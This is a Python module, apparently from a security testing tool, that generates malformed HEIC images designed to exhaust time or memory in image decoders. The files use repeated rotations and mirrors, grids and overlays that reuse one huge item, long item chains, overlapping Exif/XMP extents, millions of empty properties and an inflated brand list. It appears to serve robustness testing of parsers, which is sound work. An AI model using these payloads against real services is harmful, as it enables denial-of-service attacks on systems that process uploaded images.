"""HEIC files that take time or memory."""

import struct

from attacks.files.sizes import filled, side_of
from attacks.formats import Item, box, coded, heic, image_size

HEIC_SIDE = 4992


def _heic_side(size: float) -> int:
    return side_of(HEIC_SIDE, size, 64)


def heic_many_turns(size: float) -> bytes:
    """HEIC of 4992×4992 that is rotated 250 times."""
    side = _heic_side(size)
    config, data = coded(side)
    turn = box(b"irot", b"\1")
    item = Item(b"hvc1", [(0, len(data))], [1, 2, *[3] * 250])
    return heic([item], [config, image_size(side, side), turn], data)


def heic_many_mirrors(size: float) -> bytes:
    """HEIC of 4992×4992 that is mirrored 250 times."""
    side = _heic_side(size)
    config, data = coded(side)
    item = Item(b"hvc1", [(0, len(data))], [1, 2, *[3] * 250])
    return heic([item], [config, image_size(side, side), box(b"imir", b"\1")], data)


def heic_grid_of_one(size: float) -> bytes:
    """HEIC whose grid names one item of 4992×4992 a hundred times."""
    side = _heic_side(size)
    config, data = coded(side)
    grid = struct.pack(">BBBBHH", 0, 0, 9, 9, side, side)
    items = [
        Item(b"grid", [(0, len(grid))], [2], (b"dimg", [2] * 100)),
        Item(b"hvc1", [(len(grid), len(data))], [1, 2]),
    ]
    return heic(items, [config, image_size(side, side)], grid + data)


def heic_overlay_of_one(size: float) -> bytes:
    """HEIC that overlays one item of 4992×4992 on itself a hundred times."""
    side = _heic_side(size)
    config, data = coded(side)
    overlay = bytes([0, 0]) + bytes(8) + struct.pack(">HH", side, side) + bytes(4 * 100)
    items = [
        Item(b"iovl", [(0, len(overlay))], [2], (b"dimg", [2] * 100)),
        Item(b"hvc1", [(len(overlay), len(data))], [1, 2]),
    ]
    return heic(items, [config, image_size(side, side)], overlay + data)


def heic_chain(size: float) -> bytes:
    """HEIC with 500 items, each a rotated copy of the next one."""
    side = _heic_side(size / 4)
    config, data = coded(side)
    turn = box(b"irot", b"\1")
    count = max(2, int(500 * size))
    items = [Item(b"iden", [], [2, 3], (b"dimg", [number + 2])) for number in range(count)]
    items.append(Item(b"hvc1", [(0, len(data))], [1, 2]))
    return heic(items, [config, image_size(side, side), turn], data)


def heic_exif_over_the_same_bytes(size: float) -> bytes:
    """HEIC with 20 Exif items of 30 extents, all covering the same 1.5 MB."""
    config, data = coded(64)
    exif = bytes(4) + b"Exif\0\0" + bytes(int(1_500_000 * size))
    parts = [(len(data), len(exif))] * 30
    items = [Item(b"hvc1", [(0, len(data))], [1, 2])]
    items += [Item(b"Exif", parts, (), (b"cdsc", [1])) for _ in range(20)]
    return heic(items, [config, image_size(64, 64)], data + exif)


def heic_xmp_over_the_same_bytes(size: float) -> bytes:
    """HEIC with 20 XMP items of 30 extents, all covering the same 19 MB."""
    config, data = coded(64)
    blank = bytes(int(19_000_000 * size))
    parts = [(len(data), len(blank))] * 30
    items = [Item(b"hvc1", [(0, len(data))], [1, 2])]
    kind = b"application/rdf+xml\0"
    items += [Item(b"mime", parts, (), (b"cdsc", [1]), kind) for _ in range(20)]
    return heic(items, [config, image_size(64, 64)], data + blank)


def heic_pixels_over_the_same_bytes(size: float) -> bytes:
    """HEIC whose coded image has 30 extents, all covering the same 19 MB."""
    config, data = coded(64)
    blank = bytes(int(19_000_000 * size))
    parts = [(len(data), len(blank))] * 30
    items = [Item(b"hvc1", [(0, len(data)), *parts], [1, 2])]
    return heic(items, [config, image_size(64, 64)], data + blank)


def heic_properties(size: float) -> bytes:
    """HEIC with two million unused properties."""
    config, data = coded(64)
    spare = [box(b"free")] * int(2_000_000 * size)
    item = Item(b"hvc1", [(0, len(data))], [1, 2])
    return heic([item], [config, image_size(64, 64), *spare], data)


def heic_brands(size: float) -> bytes:
    """HEIC that claims five million brands."""
    config, data = coded(64)
    item = Item(b"hvc1", [(0, len(data))], [1, 2])
    sound = heic([item], [config, image_size(64, 64)], data)
    return box(b"ftyp", b"heic", bytes(4), filled(b"mif1", size)) + sound[24:]
